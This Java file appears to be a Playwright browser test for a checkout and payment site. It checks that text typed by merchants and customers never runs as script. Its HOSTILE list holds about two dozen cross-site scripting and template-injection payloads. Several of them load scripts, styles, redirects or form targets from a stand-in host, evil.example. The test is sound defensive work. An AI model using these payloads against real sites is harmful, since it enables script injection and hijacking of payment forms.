package dev.sarraf.page;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.WaitUntilState;
import dev.sarraf.checkout.AfterCompletion.Destination;
import dev.sarraf.checkout.Question;
import dev.sarraf.checkout.Storefront.Promotion;
import dev.sarraf.checkout.Storefront.State;
import dev.sarraf.checkout.Till;
import dev.sarraf.ids.Mode;
import dev.sarraf.money.Currency;
import dev.sarraf.money.Money;
import dev.sarraf.payments.CardSummary;
import dev.sarraf.payments.ChargeId;
import dev.sarraf.payments.Means;
import dev.sarraf.payments.Progress;
import dev.sarraf.payments.Receipt;
import dev.sarraf.testing.Chromium;
import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/// Hostile words in every place that merchants and customers fill, in a real browser: nothing runs, nothing is
/// loaded, and the policy has nothing to refuse.
class InjectionIT {
    private static final List<String> HOSTILE = List.of(
            "<script>window.ran=1</script>",
            "<script src=//evil.example/x.js></script>",
            "\"><img src=x onerror=window.ran=1>",
            "'><img src=x onerror=window.ran=1>",
            "' autofocus onfocus=window.ran=1 x='",
            "\" autofocus onfocus=window.ran=1 x=\"",
            "</title><svg onload=window.ran=1>",
            "</textarea><svg/onload=window.ran=1>",
            "</select></option><img src=x onerror=window.ran=1>",
            "</bdi></p><iframe srcdoc=\"<script>top.ran=1</script>\"></iframe>",
            "<iframe src=javascript:parent.ran=1>",
            "<a href=javascript:window.ran=1 id=x>x</a>",
            "<style>@import '//evil.example/x.css';</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example/>",
            "<form action=//evil.example><input name=number></form>",
            "<math><mtext></mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=window.ran=1 src>\">",
            "<object data=data:text/html,<script>parent.ran=1</script>>",
            "javascript:window.ran=1//",
            "{{constructor.constructor('window.ran=1')()}}${window.ran=1}<%= window.ran=1 %>",
            "&lt;script&gt;window.ran=1&lt;/script&gt;",
            "<!--><script>window.ran=1</script>-->",
            "\u2028window.ran=1\u2029<svg onload=window.ran=1>");

    private static Chromium chromium;

    private PageServer server;
    private BrowserContext context;
    private Page page;
    private final List<String> complaints = new CopyOnWriteArrayList<>();

    @BeforeAll
    static void launch() {
        chromium = new Chromium();
    }

    @AfterAll
    static void quit() {
        chromium.close();
    }

    @BeforeEach
    void start() throws IOException {
        server = new PageServer();
        context = chromium.browser().newContext();
        page = context.newPage();
        page.onConsoleMessage(message -> {
            if (message.type().equals("error")) {
                complaints.add(message.text());
            }
        });
        page.onPageError(complaints::add);
        page.onDialog(dialog -> {
            complaints.add("dialog " + dialog.message());
            dialog.dismiss();
        });
        page.onRequest(request -> {
            if (!request.url().startsWith(server.base.toString())) {
                complaints.add("request to " + request.url());
            }
        });
        page.addInitScript("document.addEventListener('securitypolicyviolation', e => console.error('refused ' +"
                + " e.violatedDirective))");
    }

    @AfterEach
    void stop() {
        context.close();
        server.close();
    }

    @Test
    void nothing_that_a_merchant_or_a_customer_writes_runs_on_any_page() {
        for (var words : HOSTILE) {
            for (var path : pagesFull(words)) {
                page.navigate(
                        server.base.resolve(path).toString(),
                        new Page.NavigateOptions().setWaitUntil(WaitUntilState.LOAD));
                page.locator("body").click(new Locator.ClickOptions().setTrial(true));

                assertThat(page.evaluate("'ran' in window"))
                        .as(words + " on " + path)
                        .isEqualTo(false);
                assertThat(complaints).as(words + " on " + path).isEmpty();
                assertThat(page.url()).startsWith(server.base.toString());
            }
        }
    }

    @Test
    void what_a_customer_typed_is_given_back_as_text() {
        for (var words : HOSTILE) {
            var answer = server.post(
                    server.till.put(Storefronts.english()) + "/pay",
                    Map.of("number", words, "expiry", words, "cvc", words, "name", words, "form_token", words));

            assertThat(answer.body())
                    .as(words)
                    .doesNotContain("<script>window", "<img src=x", "<svg onload", "<svg/onload", "<iframe src");
        }
    }

    /// The addresses of pages that say this wherever somebody else may say something.
    private List<String> pagesFull(String words) {
        var till = server.till;
        var shop = Storefronts.english()
                .selling(words, List.of(Storefronts.line(words, Optional.of(words), 2, 100)))
                .taking(new Promotion.Applied(words))
                .askingAll(words, List.of(words, "Sand"), words, words);
        var known = new ArrayList<>(shop.shop().questions());
        var filled = shop.asking(
                known, Map.of(Question.Personal.NAME.id(), words, "shipping_line1", words, "shipping_city", words));
        var attempt = till.attempt(new Progress.Confirming());
        var confirmed = new State.Complete(new Destination.Confirmation(Optional.of(words), Optional.empty()));
        var receipt = "test_" + "A".repeat(32);
        var one = new Money(100, Currency.EGP);
        till.receipts.put(
                receipt,
                new Till.Settled(
                        shop.shop(),
                        new Receipt(
                                shop.shop().id().text(),
                                ChargeId.random(Mode.TEST),
                                one,
                                one,
                                new Means.OfCard(new CardSummary(words, "0008", 1, 2039, Optional.empty())),
                                Instant.EPOCH)));
        var open = till.put(filled);
        return List.of(
                open,
                open + "?lang=ar",
                till.put(copy(words).free()),
                till.put(copy(words).in(confirmed)),
                till.put(copy(words).in(new State.Expired())),
                till.put(copy(words).adjustable()),
                till.put(copy(words).in(new State.Confirming(attempt))),
                "/r/" + receipt,
                server.entrance.put(FakeEntrance.selling(copy(words))));
    }

    private static Storefronts copy(String words) {
        return Storefronts.english().selling(words, List.of(Storefronts.line(words, Optional.of(words), 2, 100)));
    }
}
